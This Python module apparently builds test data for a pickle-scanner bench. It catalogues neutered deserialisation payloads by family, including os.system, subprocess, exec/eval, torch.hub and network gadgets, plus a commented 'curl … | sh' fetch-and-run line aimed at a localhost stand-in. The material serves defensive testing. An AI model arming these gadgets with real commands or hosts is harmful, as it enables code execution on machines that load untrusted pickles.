"""What attackers put into pickles: each payload an expression of imports and calls, harmless if it ever ran.

Commands are `true`, code is `pass` or `0`, addresses are a closed port of this machine, files are `/dev/null` or
names that are not there. No payload is run by the bench.
"""

import dataclasses


@dataclasses.dataclass(frozen=True)
class Import:
    """A global: what GLOBAL or STACK_GLOBAL asks `find_class` for."""

    module: str
    name: str


@dataclasses.dataclass(frozen=True)
class Call:
    """A call of an expression with arguments."""

    function: "Expression"
    arguments: tuple = ()


Expression = Import | Call | str | bytes | int | None | tuple | list | dict


@dataclasses.dataclass(frozen=True)
class Payload:
    family: str
    name: str
    expression: Call

    def imports(self) -> set[tuple[str, str]]:
        """What loading asks for before anything of it runs."""
        return set(_imports(self.expression))


def _imports(value):
    if isinstance(value, Import):
        yield value.module, value.name
    elif isinstance(value, Call):
        yield from _imports(value.function)
        for argument in value.arguments:
            yield from _imports(argument)
    elif isinstance(value, (tuple, list)):
        for item in value:
            yield from _imports(item)
    elif isinstance(value, dict):
        for item in (*value, *value.values()):
            yield from _imports(item)


def call(path: str, *arguments) -> Call:
    """`call("os:system", "true")`; what follows the colon may have dots, which protocol 4 walks."""
    return Call(Import(*path.split(":")), arguments)


def attribute(value: Expression, name: str) -> Call:
    return call("builtins:getattr", value, name)


def method(value: Expression, name: str, *arguments) -> Call:
    return Call(attribute(value, name), arguments)


def module(name: str) -> Call:
    return call("importlib:import_module", name)


AWAY = "http://127.0.0.1:9/x"
NULL = "/dev/null"
NOWHERE = "/nonexistent/x"
READ = method(call("urllib.request:urlopen", AWAY), "read")

FAMILIES = {
    "shell": [
        call("os:system", "true"),
        call("posix:system", "true"),
        call("nt:system", "true"),
        call("os:popen", "true"),
        call("os:execvp", "true", ["true"]),
        call("os:spawnvp", 0, "true", ["true"]),
        call("posix:posix_spawn", "/bin/true", ["true"], {}),
        call("commands:getoutput", "true"),
        call("popen2:popen2", "true"),
    ],
    "subprocess": [
        call("subprocess:Popen", ["true"]),
        call("subprocess:run", ["true"]),
        call("subprocess:call", ["true"]),
        call("subprocess:check_output", ["true"]),
        call("subprocess:getoutput", "true"),
        call("_posixsubprocess:fork_exec", ["true"]),
        call("asyncio.subprocess:create_subprocess_shell", "true"),
        call("multiprocessing.util:spawnv_passfds", b"/bin/true", [b"true"], []),
    ],
    "text run as code": [
        call("builtins:exec", "pass"),
        call("builtins:eval", "0"),
        call("__builtin__:eval", "0"),
        call("__builtin__:execfile", NULL),
        call("builtins:exec", call("builtins:compile", "pass", "x", "exec")),
        call("code:interact", "", None, {}),
        method(call("code:InteractiveInterpreter"), "runsource", "pass"),
        method(call("code:InteractiveConsole"), "push", "pass"),
        call("pandas.core.computation.eval:eval", "0"),
        call("numexpr.necompiler:evaluate", "0"),
        call("sympy:sympify", "0"),
        call("typing:get_type_hints", call("types:SimpleNamespace")),
        call("builtins:exec", call("marshal:loads", b"N")),
    ],
    "download and run": [
        call("builtins:exec", READ),
        call("builtins:exec", f"import urllib.request as r;r.urlopen('{AWAY}')"),
        call("urllib.request:urlretrieve", AWAY, NULL),
        call("urllib:urlretrieve", AWAY, NULL),
        call("os:system", f"true # curl {AWAY} | sh"),
        call("builtins:exec", attribute(call("requests:get", AWAY), "text")),
        call("requests.api:get", AWAY),
        call("pandas:read_pickle", AWAY),
        call("pandas.io.pickle:read_pickle", AWAY),
        call("wget:download", AWAY, NULL),
    ],
    "torch": [
        call("torch.hub:load", "nobody/nothing", "none"),
        call("torch.hub:load_state_dict_from_url", AWAY),
        call("torch.hub:download_url_to_file", AWAY, NULL),
        call("torch:load", NOWHERE),
        call("torch.serialization:load", NOWHERE),
        call("torch.jit:load", NOWHERE),
        call("torch.jit._serialization:load", NOWHERE),
        call("torch.utils.collect_env:run", "true"),
        call("torch.utils.bottleneck.__main__:run_autograd_prof", "pass", {}),
        call("torch.distributed.run:main", ["--help"]),
        call("torch._dynamo.guards:GuardBuilder.get", "0"),
        call("torch.fx.graph_module:_exec_with_source", "pass", {}),
        call("torch.utils.cpp_extension:load_inline", "x", ""),
        call("torch.ops:load_library", NOWHERE),
        call("torch._inductor.codecache:compile_file", NOWHERE, NULL, "true"),
        call("torch.package:PackageImporter", NOWHERE),
    ],
    "alias": [
        call("shutil:os.system", "true"),
        call("tempfile:_os.system", "true"),
        call("argparse:_os.system", "true"),
        call("random:_os.system", "true"),
        call("torch.serialization:os.system", "true"),
        call("torch._utils:sys.modules"),
        call("collections:_sys.modules"),
        call("logging:os.popen", "true"),
        call("platform:subprocess.run", ["true"]),
        call("webbrowser:subprocess.Popen", ["true"]),
        call("joblib.numpy_pickle:pickle.loads", b"N."),
        call("numpy:os.system", "true"),
        call("sklearn.utils:os.system", "true"),
        call("glob:os.system", "true"),
        call("inspect:importlib.import_module", "os"),
        call("datetime:sys.modules"),
        call("numpy.random.mtrand:RandomState.__class__"),
        call("torch.nn.modules.module:functools.partial", Import("os", "system"), "true"),
    ],
    "installers": [
        call("pip:main", ["--version"]),
        call("pip._internal:main", ["--version"]),
        call("pip._internal.cli.main:main", ["--version"]),
        call("ensurepip:_run_pip", ["--version"]),
        call("setuptools._distutils.spawn:spawn", ["true"]),
        call("distutils.spawn:spawn", ["true"]),
        call("distutils.file_util:write_file", NULL, ["x"]),
        call("pkgutil:resolve_name", "os:system"),
        call("setuptools.sandbox:run_setup", NOWHERE, []),
        call("venv:main", ["--help"]),
    ],
    "developers' tools": [
        call("timeit:timeit", "pass"),
        call("timeit:main", ["pass"]),
        call("cProfile:run", "pass"),
        call("profile:run", "pass"),
        call("pdb:run", "pass"),
        call("bdb:Bdb.run", call("bdb:Bdb"), "pass"),
        method(call("bdb:Bdb"), "run", "pass"),
        call("doctest:debug_script", "pass"),
        method(call("trace:Trace"), "run", "pass"),
        method(call("trace:Trace"), "runctx", "pass"),
        call("pty:spawn", "true"),
        call("runpy:run_path", NULL),
        call("runpy:run_module", "this"),
        call("runpy:_run_code", "pass", {}),
        call("unittest:main"),
        call("idlelib.pyshell:ModifiedInterpreter.runcode", None, "pass"),
        call("idlelib.run:Executive", None),
        call("lib2to3.pgen2.pgen:ParserGenerator.make_label", None, None, "0"),
        call("pydoc:pipepager", "", "true"),
        call("cgitb:text", ()),
        call("webbrowser:open", "about:blank"),
        call("webbrowser:get", "true %s"),
    ],
    "numpy and fellows": [
        call("numpy.testing._private.utils:runstring", "pass", {}),
        call("numpy.testing:runstring", "pass", {}),
        call("numpy.f2py.crackfortran:getlincoef", "0", {}),
        call("numpy.f2py.crackfortran:myeval", "0", {}),
        call("numpy.f2py:compile", ""),
        call("numpy:load", NOWHERE),
        call("numpy.lib.npyio:load", NOWHERE),
        call("numpy.distutils.exec_command:exec_command", "true"),
        call("numpy.lib.utils:safe_eval", "0"),
        call("numpy:fromfile", NULL),
        call("numpy:memmap", NULL),
        call("joblib:load", NOWHERE),
        call("joblib.numpy_pickle:load", NOWHERE),
        call("sklearn.externals.joblib:load", NOWHERE),
        call("scipy.io:loadmat", NOWHERE),
        call("pandas.io.pickle:to_pickle", 0, NULL),
        call("cv2:imread", NOWHERE),
        call("numpy.ctypeslib:load_library", "x", NOWHERE),
    ],
    "files": [
        call("builtins:open", NULL, "w"),
        call("__builtin__:file", NULL, "w"),
        call("io:open", NULL, "w"),
        call("_io:open", NULL, "w"),
        call("_io:FileIO", NULL, "w"),
        call("io:FileIO", NULL, "w"),
        call("io:open_code", NULL),
        method(call("pathlib:Path", NULL), "write_text", "x"),
        call("pathlib:Path.write_text", call("pathlib:Path", NULL), "x"),
        call("shutil:rmtree", NOWHERE),
        call("shutil:copyfile", NULL, NULL),
        call("os:remove", NOWHERE),
        call("os:chmod", NOWHERE, 0),
        call("logging:FileHandler", NULL),
        call("logging.handlers:RotatingFileHandler", NULL),
        call("logging.config:dictConfig", {"version": 1}),
        call("logging.config:fileConfig", NOWHERE),
        call("logging.config:listen", 9),
        call("zipfile:ZipFile", NOWHERE),
        call("tarfile:open", NOWHERE),
        call("sqlite3:connect", ":memory:"),
        call("dbm.dumb:open", NOWHERE),
        call("tempfile:NamedTemporaryFile"),
        call("gzip:open", NOWHERE),
        call("linecache:getlines", NULL),
        call("fileinput:input", NULL),
        call("shelve:open", NOWHERE),
    ],
    "native code": [
        call("ctypes:CDLL", None),
        call("ctypes:cdll.LoadLibrary", NOWHERE),
        call("_ctypes:dlopen", NOWHERE, 0),
        call("ctypes.util:find_library", "x"),
        call("_ctypes:call_function", 0, ()),
        call("cffi:FFI"),
        call("mmap:mmap", -1, 16),
        call("ctypes:string_at", 0, 0),
        call("signal:raise_signal", 0),
        call("resource:setrlimit", 0, ()),
    ],
    "imports made": [
        method(module("os"), "system", "true"),
        method(call("builtins:__import__", "os"), "system", "true"),
        method(call("__builtin__:__import__", "os"), "system", "true"),
        call("importlib:__import__", "os"),
        call("imp:load_source", "x", NULL),
        call("importlib.machinery:SourceFileLoader", "x", NULL),
        call("zipimport:zipimporter", NOWHERE),
        call("importlib.util:spec_from_file_location", "x", NULL),
        call("importlib._bootstrap:_gcd_import", "os"),
        call("pkgutil:get_loader", "os"),
        call("sys:modules.get", "os"),
        call("site:addsitedir", NOWHERE),
        call("unittest.mock:_importer", "os.system"),
        call("xmlrpc.server:resolve_dotted_attribute", None, "x"),
        call("test.support.import_helper:import_module", "os"),
    ],
    "calls made": [
        Call(Call(Import("operator", "attrgetter"), ("system",)), (module("os"),)),
        Call(Call(Call(Import("operator", "attrgetter"), ("system",)), (module("os"),)), ("true",)),
        Call(call("operator:methodcaller", "system", "true"), (module("os"),)),
        call("functools:reduce", Import("os", "system"), ["true"], "true"),
        Call(call("functools:partial", Import("os", "system"), "true")),
        call("builtins:list", call("builtins:map", Import("os", "system"), ["true"])),
        call("builtins:list", call("itertools:starmap", Import("os", "system"), [("true",)])),
        call("_operator:attrgetter", "system"),
        call("functools:partial", Import("builtins", "exec"), "pass"),
        call("types:FunctionType", call("marshal:loads", b"N"), {}),
        call("builtins:list", call("itertools:filterfalse", Import("os", "system"), ["true"])),
        call("threading:Timer", 0, Import("os", "system"), ["true"]),
        call("_thread:start_new_thread", Import("os", "system"), ("true",)),
        call("atexit:register", Import("os", "system"), "true"),
        call("concurrent.futures.thread:ThreadPoolExecutor", 1, "", Import("os", "system"), ("true",)),
        call("asyncio:run", None),
        call("signal:signal", 10, Import("os", "system")),
        call("weakref:finalize", Import("os", "system"), Import("os", "system"), "true"),
        call("contextlib:ExitStack.callback", call("contextlib:ExitStack"), Import("os", "system"), "true"),
        call("sys:settrace", Import("os", "system")),
        call("builtins:setattr", Import("os", "path"), "x", 0),
        call("copyreg:add_extension", "os", "system", 7),
        call("builtins:type.__call__", Import("os", "system")),
        call("timeit:Timer", Import("os", "system")),
    ],
    "network": [
        call("socket:create_connection", ("127.0.0.1", 9)),
        call("socket:socket"),
        call("http.client:HTTPConnection", "127.0.0.1"),
        call("smtplib:SMTP"),
        call("ftplib:FTP"),
        call("telnetlib:Telnet"),
        call("xmlrpc.client:ServerProxy", AWAY),
        call("ssl:get_server_certificate", ("127.0.0.1", 9)),
        call("urllib.request:urlopen", AWAY),
        call("http.server:test"),
        call("aiohttp.client:ClientSession"),
        call("socketserver:TCPServer", ("127.0.0.1", 0), None),
        call("multiprocessing.connection:Client", ("127.0.0.1", 9)),
        call("multiprocessing.managers:BaseManager", ("127.0.0.1", 9)),
        call("poplib:POP3", "127.0.0.1", 9),
        call("imaplib:IMAP4", "127.0.0.1", 9),
    ],
}


def payloads() -> list[Payload]:
    """Every payload, named by its family and what it calls."""
    made = []
    for family, expressions in FAMILIES.items():
        for index, expression in enumerate(expressions):
            function = expression.function
            while isinstance(function, Call):
                function = function.function
            made.append(Payload(family, f"{function.module}.{function.name}#{index}", expression))
    return made
